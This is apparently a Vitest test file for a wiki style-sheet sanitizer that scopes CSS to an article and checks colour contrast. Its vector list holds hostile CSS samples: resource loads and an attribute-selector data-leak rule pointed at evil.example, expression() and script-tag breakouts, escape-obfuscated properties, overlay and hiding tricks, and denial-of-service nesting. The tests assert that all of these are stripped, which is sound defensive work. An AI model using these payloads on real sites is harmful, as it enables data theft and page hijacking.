/** Styles of the wiki are kept where they are harmless, and reach nothing outside of their page. */

import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { accentOf, safeStyles } from '../../src/site/face.ts'
import { contrast, readColour } from '../../src/site/wiki-css/colour.ts'
import { darkGrounds, lightGrounds, lightInk } from '../../src/site/wiki-css/grounds.ts'
import { vectors as markup } from './support/vectors.ts'

const styled = (css: string): string => safeStyles({ wiki: [css], template: [] }).css

/** Ways in which a sheet loads, tells what stands on a page, covers or hides ours, runs, or breaks out of its place. */
const vectors: readonly string[] = [
  // It loads.
  '@import url(https://evil.example/x.css);',
  '@import "https://evil.example/x.css" screen;',
  '@\\69mport "https://evil.example/x.css";',
  '@font-face { font-family: x; src: url(https://evil.example/f.woff) }',
  '@font-face { font-family: x; src: local("x"), url(//evil.example/f); unicode-range: U+0041 }',
  '@namespace url(https://evil.example/);',
  '.a { background: url(https://evil.example/p.png) }',
  '.a { background-image: url("https://evil.example/p.png") }',
  '.a { background: u\\72l(https://evil.example/p.png) }',
  '.a { background: image-set("https://evil.example/p.png" 1x) }',
  '.a { background: -webkit-image-set(url(https://evil.example/p.png) 1x) }',
  '.a { background: cross-fade(url(https://evil.example/a.png), red) }',
  '.a { background-image: element(#wf-main) }',
  '.a { list-style: url(https://evil.example/p.png) }',
  '.a { list-style-image: url(https://evil.example/p.png) }',
  '.a { border-image: url(https://evil.example/p.png) 30 }',
  '.a { cursor: url(https://evil.example/c.cur), auto }',
  '.a { mask: url(https://evil.example/m.svg#x) }',
  '.a { clip-path: url(https://evil.example/c.svg#x) }',
  '.a { filter: url(https://evil.example/f.svg#x) }',
  '.a { shape-outside: url(https://evil.example/p.png) }',
  '.a::before { content: url(https://evil.example/p.png) }',
  '.a { -moz-binding: url(https://evil.example/x.xml#x) }',
  '.a { behavior: url(x.htc) }',
  '.a { --x: url(https://evil.example/p.png); background: var(--x) }',
  // It reads what stands there.
  'input[value^="a"] { background: url(https://evil.example/a) }',
  'a[href*="secret"] { border: 1px solid red }',
  '[class^="wf-"] { color: red }',
  '.a::after { content: attr(href) }',
  '.a::after { content: counter(x) }',
  // It runs.
  '.a { width: expression(alert(1)) }',
  '.a { width: exp/**/ression(alert(1)) }',
  '.a { w\\69 dth: e\\78 pression(alert(1)) }',
  '.a { background: javascript:alert(1) }',
  '.a { color: red</style><script>alert(1)</script> }',
  // It covers ours, or hides it.
  '.a { position: fixed; top: 0; left: 0; height: 100% }',
  '.a { position: sticky; top: 0 }',
  '.a { pos/**/ition: absolute; z-index: 99999 }',
  '.a { margin-top: -9999px }',
  '.a { margin-left: 9999px }',
  '.a { padding: 99999999px }',
  '.a { font-size: 9999px }',
  '.a { font-size: 0 }',
  '.a { font-size: 1px; }',
  '.a { line-height: 0 }',
  '.a { text-indent: -9999px }',
  '.a { transform: translate(-100vw) }',
  '.a { opacity: 0 }',
  '.a { visibility: hidden }',
  '.a { display: none }',
  '.a { display: non\\65 }',
  '.a { color: transparent }',
  '.a { color: #fff }',
  '.a { color: white; background: #fefefe }',
  '.a { width: 0; overflow: hidden }',
  '.a { clip: rect(0 0 0 0) }',
  '.a { all: unset }',
  '.a { animation: x 1s infinite }',
  '@keyframes x { from { opacity: 0 } }',
  // It reaches what stands around the article, or what of ours stands in it.
  '.wf-banner { border: 9px solid red }',
  '.wf-content .wf-note { border: 9px solid red }',
  '.\\77 f-note { border: 9px solid red }',
  '#wf-main { border: 9px solid red }',
  'body { border: 9px solid red }',
  ':root { border: 9px solid red }',
  'html body { border: 9px solid red }',
  '* { border: 9px solid red }',
  '.a:has(.b) { border: 9px solid red }',
  ':is(.wf-banner) { border: 9px solid red }',
  ':where(body) { border: 9px solid red }',
  'body + .a { border: 9px solid red }',
  ':host { border: 9px solid red }',
  // It is broken, or nested.
  '.a { .wf-banner & { border: 9px solid red } }',
  '.a { & { display: none } }',
  '@media (prefers-color-scheme: dark) { .a { border: 9px solid red } }',
  '@media screen and (hover) { .a { border: 9px solid red } }',
  '@media screen { @media print { .a { border: 9px solid red } } }',
  '@supports (display: grid) { .a { border: 9px solid red } }',
  '@layer x { .a { border: 9px solid red } }',
  '@property --x { syntax: "*"; inherits: true }',
  '@charset "utf-7"; ',
  '@page { margin: 0 }',
  '@container (width > 1px) { .a { border: 9px solid red } }',
  '/* .a { } */',
  '} .wf-banner { border: 9px solid red }',
  '.a { } } .wf-banner { border: 9px solid red',
  '.a[ { border: 9px solid red }',
  '.a { position: fixed; ) } .wf-banner {',
  '{}{}{}',
  `${'{'.repeat(5000)}${'}'.repeat(5000)}`,
  `.a:not(${':not('.repeat(5000)}`,
  `${'.a '.repeat(5000)}{ border: 9px solid red }`,
]

describe('a style sheet of a wiki', () => {
  test('more than forty of them are tried', () => expect(vectors.length).toBeGreaterThan(40))

  test.each(vectors.map((vector) => [vector.slice(0, 100), vector]))('has no effect by %s', (_, vector) => {
    // What breaks may take a neighbour along, and must not give it another meaning.
    const css = styled(`.before { border: 1px solid #080 }\n${vector}`)
    const rules = css.split('\n').filter((rule) => rule !== '')
    expect(rules.filter((rule) => rule !== '.wf-content .before { border: 1px solid #008800 }')).toEqual([])
  })
})

/** A rule of ours for the article, plain or in a medium: no address, no markup, no function. */
const harmless = /^(?:@media [\w ():,-]+ \{ ?)?\.wf-content [^{}<>@\\]+ \{ (?:[a-z-]+: [#\w.% -]+(?:; )?)+ \}(?: \})?$/

test.each(markup)('markup in a sheet is no more than its words: %s', (vector) => {
  const sheets = [vector, `${vector} { float: left }`, `.a, ${vector} { float: left }`, `.a { color: ${vector} }`]
  const more = [`.a::before { content: "${vector}" }`, `.a { background: ${vector}; float: left }`, `/* ${vector} */`]
  const rules = [...sheets, ...more].flatMap((sheet) => styled(sheet).split('\n')).filter((rule) => rule !== '')
  expect(rules.filter((rule) => !harmless.test(rule) || /^\.wf-content \.wf/.test(rule))).toEqual([])
})

describe('what a wiki dressed is dressed again', () => {
  test('the bars around decisions arrive, in both schemes', () => {
    expect(styled('/* Décisions */\n.decision { border-left: 4px solid #080; padding-left: .8em }')).toBe(
      '.wf-content .decision { border-left: 4px solid #008800; padding-left: 0.8em }\n',
    )
  })

  test.each([
    ['#bodyContent .decision > p { margin: 1em 0 }', '.wf-content .decision > p { margin: 1em 0 }'],
    ['body.skin-monobook #content h2 { font-style: italic }', '.wf-content h2 { font-style: italic }'],
    ['.mw-parser-output .carte td + td { padding: 3px }', '.wf-content .carte td + td { padding: 3px }'],
    ['.a, .wf-note, .b { float: right }', '.wf-content .a, .wf-content .b { float: right }'],
    ['.\\64 ecision { float: left }', '.wf-content .decision { float: left }'],
    ['.a { b\\6frder: SOLID 1PX GREEN !important }', '.wf-content .a { border: 1px solid green }'],
    ['.a { border: 1px rgb(0, 128, 0) solid }', '.wf-content .a { border: 1px solid #008000 }'],
    ['.a { font-family: "Comic Sans MS", Verdana, sans-serif }', '.wf-content .a { font-family: sans-serif }'],
    ['.vote::after { content: " ✓" }', '.wf-content .vote::after { content: " ✓" }'],
    ['.vote:before { content: "→" }', '.wf-content .vote::before { content: "→" }'],
    ['.a:nth-child(2n+1) { float: left }', '.wf-content .a:nth-child(2n+1) { float: left }'],
    ['<!-- .a { float: left } -->', '.wf-content .a { float: left }'],
  ])('%s', (written, kept) => expect(styled(written)).toBe(`${kept}\n`))

  test('colours of words and their ground hold in the light scheme, and only where one can read them', () => {
    expect(styled('.tete { background: #060; color: white; padding: 2px }')).toBe(
      '.wf-content .tete { padding: 2px }\n@media (prefers-color-scheme: light) { .wf-content .tete { background-color: #006600; color: white } }\n',
    )
    expect(styled('.pale { background: #efe url(fond.png) no-repeat }')).toBe(
      '@media (prefers-color-scheme: light) { .wf-content .pale { background-color: #eeffee } }\n',
    )
    expect(styled('.noir { background: #000 }')).toBe('')
  })

  test('media of print and of narrow windows stay', () => {
    expect(styled('@media screen and (max-width: 700px) { .a { float: none } }')).toBe(
      '@media screen and (max-width:700px) {\n.wf-content .a { float: none }\n}\n',
    )
  })

  test('what a template says of its output goes before what the wiki says of every page', () => {
    expect(safeStyles({ template: ['.x { float: left }'], wiki: ['td.x { float: right }'] }).css).toBe(
      '.wf-content td.x { float: right }\n.wf-content.wf-content .x { float: left }\n',
    )
  })

  test('what is left out is counted', () => {
    expect(
      safeStyles({
        wiki: ['.a { float: left } .b { position: fixed } @import "x"; #p-logo { float: left }'],
        template: [],
      }),
    ).toMatchObject({ rules: 4, dropped: 2 })
  })

  test('a rule that may not stay goes alone', () => {
    expect(
      safeStyles({ wiki: ['.zoe { float: left } .a { float: left }'], template: [] }, (rule) => !rule.includes('zoe'))
        .css,
    ).toBe('.wf-content .a { float: left }\n')
  })
})

describe('the colour of a wiki', () => {
  const grounds = (colours: typeof lightGrounds): readonly string[] =>
    colours.map((colour) => `#${colour.map((part) => part.toString(16).padStart(2, '0')).join('')}`)

  test('the grounds are those of our style sheet', () => {
    const sheet = readFileSync(new URL('../../src/site/assets/style.css', import.meta.url), 'utf8')
    const named = (scheme: string, name: string) => new RegExp(`--${name}: (#[0-9a-f]{6})`).exec(scheme)?.[1]
    const [light = '', dark = ''] = sheet.split('@media (prefers-color-scheme: dark)')
    expect(['paper', 'sheet', 'shade'].map((name) => named(light, name))).toEqual(grounds(lightGrounds))
    expect(['paper', 'sheet', 'shade'].map((name) => named(dark, name))).toEqual(grounds(darkGrounds))
    expect(named(light, 'ink')).toBe(grounds([lightInk])[0])
  })

  test.each(['#00ff00', '#ffff66', '#006400', '#101060', 'orange', 'rgb(255, 0, 0)'])(
    '%s becomes legible on every ground',
    (written) => {
      const accent = accentOf('', [`a { color: ${written} }`])
      for (const [colour, on] of [
        [accent?.light, lightGrounds],
        [accent?.dark, darkGrounds],
      ] as const)
        for (const ground of on)
          expect(contrast(readColour(colour ?? '') ?? [0, 0, 0], ground)).toBeGreaterThanOrEqual(4.5)
    },
  )

  test('is that of its drawing, else of its links, headings and bars; none for greys and for MediaWiki’s own blue', () => {
    const svg = '<svg><path fill="#060"/><path fill="#060"/><path fill="#fff"/><path style="fill:#900"/></svg>'
    expect(accentOf(svg, ['a { color: #900 }'])?.light).toBe('#006600')
    expect(accentOf('', ['.x { color: #060 } h2 { border-bottom: 2px solid #804000 }'])?.light).toBe('#804000')
    expect(accentOf('', ['a { color: #0645ad } h2 { color: #333 } .x { color: #060 }'])).toBeNull()
    expect(accentOf('<svg/>', [])).toBeNull()
  })
})
